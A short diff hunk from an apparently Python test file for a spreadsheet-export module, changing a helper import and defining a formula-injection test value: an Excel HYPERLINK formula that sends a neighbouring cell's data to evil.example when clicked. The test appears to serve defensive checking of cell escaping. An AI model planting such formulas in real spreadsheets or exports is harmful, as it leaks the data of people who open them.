@@ -26,7 +26,7 @@ from sendgraph.tables import (
     xml_forbidden,
     xml_safe,
 )
-from tests.test_records import edit
+from tests.helpers import edit
 
 # A cell that, opened in Excel, sends the cell beside it to another site when clicked.
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full plan")'
